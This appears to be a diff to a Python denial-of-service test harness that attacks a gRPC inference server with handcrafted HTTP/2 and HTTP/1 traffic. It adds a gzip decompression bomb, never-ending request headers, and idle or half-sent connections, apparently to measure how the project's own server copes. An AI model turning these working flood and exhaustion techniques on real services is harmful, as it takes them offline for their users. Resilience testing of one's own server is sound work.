@@ -1,12 +1,14 @@
 #!/usr/bin/python3
-"""HTTP/2 as an attacker speaks it: frames by hand, sent as fast as they go.
+"""HTTP/2 and HTTP/1 as an attacker speaks them: bytes by hand, sent as fast as they go, or not at all.
 
     http2_attacks.py KIND --port PORT --seconds 5 [--connections 4] [--tls] [--source 127.0.0.2]
 
-A connection that the server closes is opened anew at once. Prints one line of JSON: what was sent, and how often the
+A connection that the server closes is opened anew at once. Those of IDLE stay open when they have said what they say. Prints one line of JSON: what was sent, and how often the
 server closed a connection. Run as a program of its own, so that it does not slow the client down that measures.
 """
 import argparse
+import functools
+import gzip
 import json
 import selectors
 import socket
@@ -21,6 +23,7 @@ WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
 GENERATE = b"/winnow.v1.InferenceService/Generate"
 # Streams for each connection before it is opened anew: their blocks are made once.
 STREAMS = 40_000
+IDLE = ("idle", "half_scrapes")
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -106,6 +109,30 @@ def small_frames(piece):
         yield piece
 
 
+@functools.cache
+def bomb():
+    """A message that inflates a thousand times, and is small enough for the window of a stream that just began."""
+    small = gzip.compress(bytes(60 << 20), 9)
+    return b"\x01" + struct.pack(">I", len(small)) + small
+
+
+def compressed_messages():
+    message = bomb()
+    yield hello()
+    for stream in range(1, 2 * STREAMS, 2):
+        yield frame(HEADERS, END_HEADERS, stream, call_headers((b"grpc-encoding", b"gzip")))
+        pieces = [message[i:i + 16384] for i in range(0, len(message), 16384)]
+        for piece in pieces:
+            yield frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece)
+
+
+def endless_head():
+    """HTTP/1: a request whose headers do not end."""
+    yield b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n"
+    for i in range(1 << 20):
+        yield b"".join(b"x-%d-%d: %s\r\n" % (i, j, b"a" * 200) for j in range(64))
+
+
 def kinds():
     message = bytes.fromhex("0a030a0178")  # a GenerateRequest: text { text: "x" }
     return {
@@ -118,14 +145,18 @@ def kinds():
         "pings": lambda: small_frames(frame(PING, 0, 0, bytes(8)) * 1000),
         "settings": lambda: small_frames(frame(SETTINGS, 0, 0) * 1000),
         "empty_data": lambda: small_frames(frame(DATA, 0, 1) * 1000),
+        "compressed": compressed_messages,
+        "endless_head": endless_head,
+        "idle": lambda: iter(()),
+        "half_scrapes": lambda: iter([b"GET /metrics HTTP/1.1\r\nHost: x\r\n"]),
     }
 
 
 class Attacker:
     """One connection at a time, and the blocks that are sent on it. What the server sends is read and dropped."""
 
-    def __init__(self, connect, make_blocks, prepared):
-        self.open, self.make_blocks, self.prepared = connect, make_blocks, prepared
+    def __init__(self, connect, make_blocks, prepared, idles):
+        self.open, self.make_blocks, self.prepared, self.idles = connect, make_blocks, prepared, idles
         self.sent, self.closed = 0, 0
         self.connect()
 
@@ -134,9 +165,10 @@ class Attacker:
         self.socket.setblocking(False)
         self.blocks = iter(self.prepared) if self.prepared else self.make_blocks()
         self.left = b""
+        self.waits_for = selectors.EVENT_WRITE
 
     def step(self):
-        """Sends as much as the socket takes without waiting."""
+        """Sends as much as the socket takes without waiting. False: the connection has ended."""
         try:
             for _ in range(8):
                 if not self.left:
@@ -146,7 +178,12 @@ class Attacker:
                 self.left = self.left[count:]
         except WOULD_BLOCK:
             pass
-        except (StopIteration, OSError):
+        except StopIteration:
+            if not self.idles:
+                self.closed += 1
+                return False
+            self.waits_for = selectors.EVENT_READ  # for its end
+        except OSError:
             self.closed += 1
             return False
         try:
@@ -181,16 +218,21 @@ def attack(kind, connect, seconds, connections):
     print("ready", flush=True)
     until = time.monotonic() + seconds
     selector = selectors.DefaultSelector()
-    attackers = []
+    attackers, failed = [], 0
     for _ in range(connections):
-        attacker = Attacker(connect, make_blocks, prepared)
+        try:
+            attacker = Attacker(connect, make_blocks, prepared, kind in IDLE)
+        except OSError:  # as many as are let in
+            failed += 1
+            continue
         attackers.append(attacker)
-        selector.register(attacker.socket, selectors.EVENT_WRITE, attacker)
-    failed = 0
+        selector.register(attacker.socket, attacker.waits_for, attacker)
     while time.monotonic() < until:
         for key, _ in selector.select(0.05):
             attacker = key.data
             if attacker.step():
+                if key.events != attacker.waits_for:
+                    selector.modify(attacker.socket, attacker.waits_for, attacker)
                 continue
             selector.unregister(attacker.socket)
             attacker.socket.close()
@@ -203,7 +245,7 @@ def attack(kind, connect, seconds, connections):
                     time.sleep(0.01)
             else:
                 return  # nobody is there any more
-            selector.register(attacker.socket, selectors.EVENT_WRITE, attacker)
+            selector.register(attacker.socket, attacker.waits_for, attacker)
     for attacker in attackers:
         attacker.socket.close()
     print(json.dumps({"kind": kind, "sent_bytes": sum(a.sent for a in attackers), "closed": sum(a.closed for a in attackers),
